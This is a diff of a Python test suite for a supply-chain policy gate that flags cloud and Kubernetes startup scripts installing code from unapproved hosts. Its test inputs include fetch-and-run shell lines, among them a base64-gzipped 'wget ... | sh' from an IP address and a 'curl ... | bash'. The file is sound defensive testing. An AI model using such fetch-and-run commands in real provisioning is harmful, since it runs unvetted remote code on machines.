@@ -5,19 +5,13 @@ from __future__ import annotations
 import base64
 import gzip
 
-from tests.harness import capture, findings, gate, set_input
-from tests.policies.test_gpu_1 import messages
-from tests.policies.test_sup_1 import SUP_BASELINE
+from tests.harness import UNKNOWN, capture, findings, gate, message_list, set_input, unknowns
+from tests.policies.programs import SUP_BASELINE, b64
 
 EC2 = "sup-3-ec2-user-data-installs"
 SAGEMAKER = "sup-3-sagemaker-lifecycle-installs"
 GCE = "sup-3-gce-startup-script-installs"
 PODS = "sup-3-k8s-container-command-installs"
-UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"
-
-
-def b64(text: str) -> str:
-    return base64.b64encode(text.encode()).decode()
 
 
 def test_compliant_baseline_has_no_sup3_finding() -> None:
@@ -30,7 +24,7 @@ def test_launch_template_user_data_pipes_download_into_shell() -> None:
     c = set_input(capture(SUP_BASELINE), "workers", "userData", b64(script))
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "workers")}
-    assert messages(report, EC2) == [
+    assert message_list(report, EC2) == [
         "LaunchTemplate 'workers': userData runs a download piped into an interpreter from 'get.example.com' (not "
         "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."
     ]
@@ -44,7 +38,10 @@ def test_instance_user_data_extra_index_url_and_approved_index() -> None:
     c = set_input(capture(SUP_BASELINE), "trainer", "userData", script)
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "pip install --extra-index-url pointing at 'pypi.internal.example.com'" in messages(report, EC2)[0]
+    assert (
+        "pip install --extra-index-url pointing at 'pypi.internal.example.com'"
+        in message_list(report, EC2)[0]
+    )
     approved = {EC2: {"approvedPackageIndexes": ["*.internal.example.com"]}}
     assert findings(gate(c, approved), "sup-3") == set()
 
@@ -58,17 +55,17 @@ def test_pip_install_from_git_url_and_gzipped_base64_user_data() -> None:
     )
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "pip install of a URL on 'github.com'" in messages(report, EC2)[0]
+    assert "pip install of a URL on 'github.com'" in message_list(report, EC2)[0]
     packed = base64.b64encode(gzip.compress(b"#!/bin/sh\nwget -qO- http://203.0.113.7/x.sh | sh\n")).decode()
     c = set_input(capture(SUP_BASELINE), "trainer", "userDataBase64", packed)
-    assert "from '203.0.113.7'" in messages(gate(c), EC2)[0]
+    assert "from '203.0.113.7'" in message_list(gate(c), EC2)[0]
 
 
 def test_unreadable_source_host_is_flagged() -> None:
     c = set_input(capture(SUP_BASELINE), "trainer", "userData", 'curl -s "$INSTALLER_URL" | bash')
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "a host that cannot be read from the script" in messages(report, EC2)[0]
+    assert "a host that cannot be read from the script" in message_list(report, EC2)[0]
 
 
 def test_sagemaker_lifecycle_configurations() -> None:
@@ -77,7 +74,7 @@ def test_sagemaker_lifecycle_configurations() -> None:
     )
     report = gate(c)
     assert findings(report, "sup-3") == {(SAGEMAKER, "notebook-lc")}
-    assert messages(report, SAGEMAKER) == [
+    assert message_list(report, SAGEMAKER) == [
         "SageMaker NotebookInstanceLifecycleConfiguration 'notebook-lc': onCreate runs a downloaded script executed "
         "by substitution from 'setup.example.io' (not in approvedPackageIndexes); install from a pinned, scanned "
         "image or an approved package index."
@@ -100,7 +97,7 @@ def test_workbench_and_compute_startup_scripts() -> None:
     )
     report = gate(c)
     assert findings(report, "sup-3") == {(GCE, "workbench")}
-    assert messages(report, GCE)[0].startswith(
+    assert message_list(report, GCE)[0].startswith(
         "workbench Instance 'workbench': gceSetup.metadata.post-startup-script runs a download piped into an "
         "interpreter from 'tools.example.org'"
     )
@@ -122,7 +119,7 @@ def test_kubernetes_container_command() -> None:
     )
     report = gate(c)
     assert findings(report, "sup-3") == {(PODS, "server")}
-    assert messages(report, PODS) == [
+    assert message_list(report, PODS) == [
         "Deployment 'server': containers 'serve' command/args runs pip install of a URL on 'files.example.com' (not "
         "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."
     ]
@@ -150,10 +147,10 @@ def test_unknown_scripts_at_preview_are_reported_not_passed() -> None:
     set_input(c, "gce-trainer", "metadataStartupScript", UNKNOWN)
     set_input(c, "server", "spec.template.spec.containers.0.command", UNKNOWN)
     report = gate(c)
-    unknown = {
-        (v.policy, v.resource_name)
-        for v in report.violations
-        if v.kind == "unknown-at-preview" and v.policy.startswith("sup-3")
+    assert unknowns(report, "sup-3") == {
+        (EC2, "workers", "advisory"),
+        (SAGEMAKER, "notebook-lc", "advisory"),
+        (GCE, "gce-trainer", "advisory"),
+        (PODS, "server", "advisory"),
     }
-    assert unknown == {(EC2, "workers"), (SAGEMAKER, "notebook-lc"), (GCE, "gce-trainer"), (PODS, "server")}
     assert findings(report, "sup-3") == set()
